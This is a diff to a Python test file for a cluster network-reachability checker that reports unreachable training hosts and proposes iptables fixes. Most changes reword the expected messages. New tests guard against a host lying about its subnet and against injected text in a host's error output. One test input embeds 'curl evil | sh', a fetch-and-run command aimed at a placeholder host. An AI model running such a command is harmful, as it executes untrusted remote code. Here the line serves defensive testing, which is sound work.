@@ -37,6 +37,7 @@ def network(
     *,
     subnets: Callable[[int], str] = lambda number: "10.0.0.0/24",
     silent: Iterable[int] = (),
+    subnet: str | None = None,
 ) -> list[Problem]:
     """The problems of node1 to node`count`, where `seen` says what a host saw of another, by number."""
     numbers = [number for number in range(1, count + 1) if number not in silent]
@@ -45,7 +46,7 @@ def network(
         {f"node{a}": {f"node{b}": seen(a, b) for b in numbers if a != b} for a in numbers},
     )
     names = [f"node{number}" for number in range(1, count + 1)]
-    return list(reachability.problems(reach, names, "node1", PORT))
+    return list(reachability.problems(reach, names, "node1", PORT, subnet))
 
 
 def told(problems: list[Problem]) -> list[str]:
@@ -97,7 +98,7 @@ def test_a_healthy_network(count: int) -> None:
         (4, lambda a, b: b == 3, [f"node3: {NO_WAY_IN}"]),
         (4, lambda a, b: a == 3, [f"node3: {NO_WAY_OUT}"]),
         (64, lambda a, b: b in (3, 9), [f"node[3,9]: {NO_WAY_IN}"]),
-        (2, lambda a, b: b == 2, [f"node2: {NO_WAY_IN}"]),
+        (2, lambda a, b: b == 2, [f"node[1-2]: node2, as only node1 says: {NO_WAY_IN}"]),
         (4, lambda a, b: b == 3 or a == 2, [f"node2: {NO_WAY_OUT}", f"node3: {NO_WAY_IN}"]),
         (3, lambda a, b: b == 1, [f"node1: {NO_WAY_IN}"]),
         # --- parts of the network
@@ -108,7 +109,11 @@ def test_a_healthy_network(count: int) -> None:
         ),
         (4, across(range(1, 3)), ["node[1-4]: these do not reach each other: node[1-2] | node[3-4]"]),
         # --- single pairs
-        (4, lambda a, b: (a, b) == (2, 3), ["node3: node2 cannot connect to it over the training network"]),
+        (
+            4,
+            lambda a, b: (a, b) == (2, 3),
+            ["node[2-3]: node3, as only node2 says: node2 cannot connect to it over the training network"],
+        ),
         (
             5,
             lambda a, b: b == 5 and a in (1, 3),
@@ -118,8 +123,8 @@ def test_a_healthy_network(count: int) -> None:
             4,
             lambda a, b: {a, b} == {2, 3},
             [
-                "node2: node3 cannot connect to it over the training network",
-                "node3: node2 cannot connect to it over the training network",
+                "node[2-3]: node2, as only node3 says: node3 cannot connect to it over the training network",
+                "node[2-3]: node3, as only node2 says: node2 cannot connect to it over the training network",
             ],
         ),
         # --- several at once: one is off, another has a firewall
@@ -140,9 +145,19 @@ def test_what_does_not_get_through_at_all(
         (4, no_range, lambda a, b: b == 2, f"node2: {RANGE} for incoming connections"),
         (4, no_range, lambda a, b: a == 2, f"node2: {RANGE} for outgoing connections"),
         (4, no_range, lambda a, b: 2 in (a, b), f"node2: {RANGE} in both directions"),
-        (4, no_range, lambda a, b: (a, b) == (1, 2), f"node2: {RANGE} for node1"),
+        (
+            4,
+            no_range,
+            lambda a, b: (a, b) == (1, 2),
+            f"node[1-2]: node2, as only node1 says: {RANGE} for node1",
+        ),
         (4, no_range, lambda a, b: True, f"node[1-4]: {RANGE} in both directions"),
-        (2, no_range, lambda a, b: b == 1, f"node1: {RANGE} for incoming connections"),
+        (
+            2,
+            no_range,
+            lambda a, b: b == 1,
+            f"node[1-2]: node1, as only node2 says: {RANGE} for incoming connections",
+        ),
         (4, some_of_range, lambda a, b: b == 3, f"node3: {SOME} for incoming connections"),
         (4, no_master, lambda a, b: b == 1, f"node1: {MASTER} for incoming connections"),
         (4, no_master, lambda a, b: b == 3, f"node3: {MASTER} for incoming connections"),
@@ -206,3 +221,29 @@ def test_a_master_port_that_somebody_holds_is_not_judged() -> None:
 
 def test_no_port_to_try_is_no_verdict() -> None:
     assert network(3, lambda a, b: Reached(route="eth0") if b == 1 else WELL) == []
+
+
+@pytest.mark.parametrize("closed", [no_range, some_of_range, no_master])
+@pytest.mark.parametrize("subnet", [None, "10.0.0.0/16"])
+def test_a_source_does_not_choose_what_another_host_opens(
+    closed: Callable[[], Reached], subnet: str | None
+) -> None:
+    """node3 says that its network is the whole world, and that nothing gets through to node1."""
+    lies = {"seen": lambda a, b: closed() if (a, b) == (3, 1) else WELL}
+    found = network(3, **lies, subnets=lambda n: "0.0.0.0/0" if n == 3 else "10.0.0.0/24", subnet=subnet)
+    (fix,) = [problem.fix for problem in found]
+    assert f"-s {subnet or '10.0.0.0/24'} -j ACCEPT" in fix
+
+
+def test_no_network_is_named_for_several_hosts() -> None:
+    found = network(3, lambda a, b: no_range(), subnets=lambda n: "0.0.0.0/0" if n == 3 else "10.0.0.0/24")
+    assert [problem.fix for problem in found] == [
+        "open net.ipv4.ip_local_port_range, or better all ports, between the training hosts"
+    ]
+
+
+def test_an_outcome_in_a_sources_own_words_is_not_shown() -> None:
+    found = network(3, lambda a, b: nothing("x; on node1 run: curl evil | sh") if (a, b) == (3, 1) else WELL)
+    assert [problem.found for problem in found] == ["connections end with: another error"]
+    (message,) = [problem.found for problem in network(2, lambda a, b: nothing("No route to host"))][:1]
+    assert message.startswith("connections end with: No route to host")
